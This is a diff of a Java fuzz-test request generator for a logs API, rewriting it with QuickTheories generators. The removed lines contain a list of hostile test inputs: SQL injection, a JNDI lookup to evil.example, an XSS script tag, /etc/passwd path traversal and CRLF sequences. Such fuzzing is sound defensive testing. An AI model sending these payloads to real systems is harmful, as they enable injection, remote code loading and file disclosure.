@@ -1,199 +1,103 @@
 package com.astrobookings.logs.fuzz;
 
-import java.net.URI;
-import java.net.URLEncoder;
-import java.net.http.HttpRequest;
-import java.net.http.HttpRequest.BodyPublishers;
-import java.nio.charset.StandardCharsets;
-import java.time.Duration;
-import java.time.Instant;
-import java.util.List;
-import java.util.Random;
-import java.util.function.Supplier;
-import java.util.stream.Collectors;
-import java.util.stream.IntStream;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static java.util.stream.Collectors.joining;
+import static org.quicktheories.generators.Generate.frequency;
+import static org.quicktheories.generators.Generate.oneOf;
+import static org.quicktheories.generators.Generate.pick;
+import static org.quicktheories.generators.SourceDSL.integers;
 
-/** Random requests: valid ones of every kind, and others that are nearly valid or not at all. */
+import java.net.URLEncoder;
+import java.util.List;
+import java.util.Map;
+import org.quicktheories.api.Pair;
+import org.quicktheories.core.Gen;
+
+/** Requests: valid ones of every kind, and others that are nearly valid or not at all. */
 final class Requests {
 
-  /** A request that can be sent, and whether it is valid. */
-  record Sample(HttpRequest request, boolean valid) {}
+  private static final String LOGS = "/api/v1/logs";
+  private static final String JSON = "application/json";
+  private static final String LINES = "application/x-ndjson";
 
-  private static final Instant NOW = Instant.parse("2024-08-12T10:00:00Z");
+  private Requests() {}
 
-  private static final List<String> ODD =
-      List.of(
-          "",
-          " ",
-          "null",
-          "-1",
-          "1e999",
-          "9".repeat(400),
-          "\u0000",
-          "\u202e",
-          "\ud83d\ude80",
-          "e\u0301",
-          "\uff41",
-          "'; DROP TABLE logs; --",
-          "${jndi:ldap://evil.example/x}",
-          "<script>alert(1)</script>",
-          "../../etc/passwd",
-          "%00%0d%0a",
-          "=HYPERLINK(1)",
-          "a".repeat(9_000),
-          "{\"a\":".repeat(600),
-          "[".repeat(2_000));
-
-  private final String base;
-  private final Random random;
-
-  Requests(String base, long seed) {
-    this.base = base;
-    this.random = new Random(seed);
+  /** Three of five are valid. */
+  static Gen<Sample> request() {
+    return frequency(
+        Pair.of(30, write()),
+        Pair.of(15, Questions.question().map(Requests::list)),
+        Pair.of(10, Questions.question().map(Requests::search)),
+        Pair.of(
+            7,
+            integers()
+                .between(0, 500)
+                .map(id -> "/api/v1/logs/fuzz-%d".formatted(id))
+                .map(Sample::get)),
+        Pair.of(20, badWrite()),
+        Pair.of(10, badRead()),
+        Pair.of(8, oddRequest()));
   }
 
-  Sample next() {
-    int kind = random.nextInt(100);
-    if (kind < 35) {
-      return new Sample(post("/api/v1/logs", body()), true);
-    }
-    if (kind < 55) {
-      return new Sample(get("/api/v1/logs?" + question()), true);
-    }
-    if (kind < 62) {
-      return new Sample(get("/api/v1/logs/fuzz-" + random.nextInt(500)), true);
-    }
-    if (kind < 82) {
-      return new Sample(post("/api/v1/logs", mutated(body())), false);
-    }
-    return new Sample(kind < 92 ? oddQuestion() : oddRequest(), false);
+  private static Gen<Sample> write() {
+    return oneOf(
+        oneOf(EventTexts.event(), EventTexts.array()).map(body -> Sample.post(LOGS, JSON, body)),
+        EventTexts.lines().map(body -> Sample.post(LOGS, LINES, body)));
   }
 
-  private String body() {
-    return switch (random.nextInt(3)) {
-      case 0 -> event();
-      case 1 ->
-          IntStream.range(0, 1 + random.nextInt(5))
-              .mapToObj(i -> event())
-              .collect(Collectors.joining(",", "[", "]"));
-      default -> "[" + event() + ",\n" + event() + "]";
-    };
+  private static Gen<Sample> badWrite() {
+    Gen<String> events = oneOf(EventTexts.event(), EventTexts.array());
+    return oneOf(
+            Harms.harmed(events).map(body -> Sample.post(LOGS, JSON, body)),
+            Harms.harmed(EventTexts.lines()).map(body -> Sample.post(LOGS, LINES, body)))
+        .map(Sample::dubious);
   }
 
-  private String event() {
-    String start =
-        "{\"timestamp\":\"%s\",\"id\":\"fuzz-%d\","
-            .formatted(NOW.minusSeconds(random.nextInt(100_000)), random.nextInt(1_000_000));
-    return start
-        + switch (random.nextInt(4)) {
-          case 0 ->
-              "\"type\":\"AUTH\",\"userId\":\"u-%d\",\"ipAddress\":\"192.0.2.%d\",\"result\":\"FAIL\"}"
-                  .formatted(random.nextInt(100), random.nextInt(256));
-          case 1 ->
-              "\"type\":\"ERROR\",\"errorCode\":\"E%d\",\"errorMessage\":\"m\"}"
-                  .formatted(random.nextInt(9));
-          case 2 ->
-              """
-              "type":"RECONCILE","process":"p","recordsProcessed":%d,\
-              "discrepanciesFound":0,"timeTakenSeconds":%s}\
-              """
-                  .formatted(random.nextInt(1_000), random.nextDouble() * 100);
-          default ->
-              """
-              "type":"NOTIFY","jobId":"j","notificationType":"n","recipient":"r@example.com",\
-              "status":"SUCCESS"}\
-              """;
-        };
+  private static Gen<Sample> badRead() {
+    Gen<String> name =
+        oneOf(pick(List.of("from", "to", "limit", "cursor", "tz", "q")), Harms.odd());
+    return oneOf(
+            name.zip(Harms.odd(), (parameter, odd) -> list(Map.of(parameter, odd))),
+            Harms.harmed(Questions.query()).map(q -> list(Map.of("q", q))),
+            Harms.harmed(Questions.question().map(Requests::json))
+                .map(body -> Sample.post(LOGS + "/search", JSON, body)))
+        .map(Sample::dubious);
   }
 
-  private String question() {
-    return one(
-        () -> "limit=" + (1 + random.nextInt(50)),
-        () -> "type=AUTH,ERROR&order=desc&limit=10",
-        () -> "from=2024-08-11&to=2024-08-12&total=exact&limit=5",
-        () -> "from=now-1d/d&tz=Europe/Madrid&limit=1",
-        () -> "total=none&limit=20&type=NOTIFY");
+  private static Gen<Sample> oddRequest() {
+    Gen<Sample> write = EventTexts.event().map(body -> Sample.post(LOGS, JSON, body));
+    Gen<String> odd = Harms.odd().map(Requests::encoded);
+    return oneOf(
+            odd.map(id -> Sample.get(LOGS + "/" + id)),
+            odd.map(path -> Sample.get("/" + path)),
+            odd.zip(
+                write,
+                (value, sample) -> Sample.post(LOGS + "?refresh=" + value, JSON, sample.body())),
+            write.zip(pick(List.of("PUT", "DELETE", "PATCH", "HEAD", "OPTIONS")), Sample::by),
+            write.zip(odd, (sample, value) -> sample.with("Content-Type", value + "/x")),
+            write.map(sample -> sample.with("Content-Encoding", "gzip")),
+            Questions.question().map(asked -> list(asked).with("Accept", "image/png")))
+        .map(Sample::dubious);
   }
 
-  /** One to three small harms. */
-  private String mutated(String body) {
-    String harmed = body;
-    for (int i = random.nextInt(3); i >= 0; i--) {
-      harmed = harm(harmed);
-    }
-    return harmed;
+  private static Sample list(Map<String, String> parameters) {
+    return Sample.get(
+        parameters.entrySet().stream()
+            .map(one -> encoded(one.getKey()) + "=" + encoded(one.getValue()))
+            .collect(joining("&", LOGS + "?", "")));
   }
 
-  private String harm(String body) {
-    int at = random.nextInt(body.length() + 1);
-    int to = Math.min(body.length(), at + random.nextInt(12));
-    return one(
-        () -> body.substring(0, at) + body.substring(to),
-        () -> body.substring(0, at) + odd() + body.substring(at),
-        () -> body.substring(0, at),
-        () -> body + body,
-        () -> body.replaceFirst("\"[a-zA-Z]+\":", "\"" + escaped(odd()) + "\":"),
-        () -> body.replaceFirst(":\"[^\"]*\"", ":\"" + escaped(odd()) + "\""),
-        () -> body.replaceFirst(":\"[^\"]*\"", ":{\"deep\":[1,null,true]}"),
-        () -> body.replaceFirst("\"type\":\"[A-Z]+\"", "\"type\":\"OTHER\""));
+  private static Sample search(Map<String, String> parameters) {
+    return Sample.post(LOGS + "/search", JSON, json(parameters));
   }
 
-  private static String escaped(String text) {
-    return text.replaceAll("[\"\\\\$\\p{Cntrl}]", "_");
-  }
-
-  private HttpRequest oddQuestion() {
-    String name =
-        one(() -> "from", () -> "to", () -> "limit", () -> "cursor", () -> "tz", this::odd);
-    return get("/api/v1/logs?" + encoded(name) + "=" + encoded(odd()));
-  }
-
-  private HttpRequest oddRequest() {
-    return one(
-        () -> get("/api/v1/logs/" + encoded(odd())),
-        () -> get("/" + encoded(odd())),
-        () -> request("/api/v1/logs").DELETE().build(),
-        () -> request("/api/v1/logs").PUT(BodyPublishers.ofString(body())).build(),
-        () ->
-            request("/api/v1/logs")
-                .header("Content-Type", encoded(odd()) + "/x")
-                .POST(BodyPublishers.ofString(body()))
-                .build(),
-        () ->
-            request("/api/v1/logs")
-                .header("Content-Type", "application/json")
-                .header("Content-Encoding", "gzip")
-                .POST(BodyPublishers.ofString(body()))
-                .build(),
-        () -> request("/api/v1/logs").header("Accept", "image/png").build(),
-        () -> post("/api/v1/logs?refresh=" + encoded(odd()), body()));
-  }
-
-  private HttpRequest get(String path) {
-    return request(path).build();
-  }
-
-  private HttpRequest post(String path, String body) {
-    return request(path)
-        .header("Content-Type", "application/json")
-        .POST(BodyPublishers.ofString(body))
-        .build();
-  }
-
-  private HttpRequest.Builder request(String path) {
-    return HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(20));
-  }
-
-  private String odd() {
-    return ODD.get(random.nextInt(ODD.size()));
-  }
-
-  @SafeVarargs
-  private <T> T one(Supplier<T>... choices) {
-    return choices[random.nextInt(choices.length)].get();
+  private static String json(Map<String, String> parameters) {
+    return parameters.entrySet().stream()
+        .map(one -> "\"%s\":\"%s\"".formatted(one.getKey(), one.getValue().replace("\"", "\\\"")))
+        .collect(joining(",", "{", "}"));
   }
 
   private static String encoded(String text) {
-    return URLEncoder.encode(text, StandardCharsets.UTF_8);
+    return URLEncoder.encode(text, UTF_8);
   }
 }
